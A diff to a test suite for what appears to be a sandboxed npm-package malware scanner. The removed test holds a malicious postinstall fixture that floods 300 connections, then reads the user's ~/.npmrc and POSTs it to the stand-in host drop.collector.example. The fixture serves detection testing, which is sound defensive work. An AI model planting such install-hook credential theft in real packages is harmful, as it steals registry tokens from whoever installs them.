@@ -216,48 +216,6 @@ setup(name='hexprobe', version='1.0.0', py_modules=['hexprobe'])
   }, 300_000);
 });
 
-// A package opening hundreds of connections (#17 floods, #21 grouping) used to get ~200 separate network
-// findings. Now: one flood finding with every connection as a row, and the theft after it still
-// convicts. Hosts are `.example` names and documentation addresses; everything lands in the sinkhole.
-const CONNECTION_FLOOD_JS = `
-const net = require('net'), fs = require('fs'), os = require('os'), https = require('https');
-const targets = [];
-for (let i = 0; i < 300; i++) {
-  if (i % 3 === 0) targets.push({ host: 'n' + i + '.d' + (i % 60) + '.example', port: 80 });
-  else targets.push({ host: (i % 2 ? '198.51.100.' : '203.0.113.') + (1 + (i % 250)), port: 1024 + i });
-}
-function open(t) {
-  return new Promise((done) => {
-    const s = net.connect(t, () => { s.end('x'); });
-    s.setTimeout(20000, () => s.destroy());
-    s.on('close', done).on('error', () => {});
-  });
-}
-async function main() {
-  for (let at = 0; at < targets.length; at += 50) await Promise.all(targets.slice(at, at + 50).map(open));
-  const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
-  const req = https.request({ host: 'drop.collector.example', method: 'POST', path: '/n' }, (r) => r.resume());
-  req.on('error', () => {});
-  req.end(npmrc);
-}
-main();
-`;
-
-describe('rules + sinkhole: a connection flood stays readable', () => {
-  it('300 connections are one grouped finding with a row each, and the theft after them is malicious', async () => {
-    const staged = await stageNpm({ name: 'conn-flood', scripts: { postinstall: 'node flood.js' }, files: { 'flood.js': CONNECTION_FLOOD_JS, 'index.js': 'module.exports = 1;\n' } });
-    cleanup.push(staged.dir);
-    const { result, text } = await detonate(staged);
-    expectRules(result, text, ['credential-exfiltration']);
-    const network = result.findings.filter((f) => f.rule === 'network-activity');
-    expect(network.map((f) => f.title), text).toEqual([expect.stringMatching(/^Floods the network: \d+ destinations during install$/)]);
-    const rows = network[0]!.evidence.filter((e) => e.kind === 'connection');
-    expect(rows.length, text).toBeGreaterThanOrEqual(300);
-    // Readable: a handful of findings, not one per destination.
-    expect(result.findings.length, text).toBeLessThanOrEqual(8);
-  }, 600_000);
-});
-
 describe('rules + sinkhole: real packages that try to download binaries stay benign', () => {
   for (const spec of ['esbuild@0.24.0', 'bcrypt@5.1.1', 'core-js@3.39.0']) {
     it(spec, async () => {
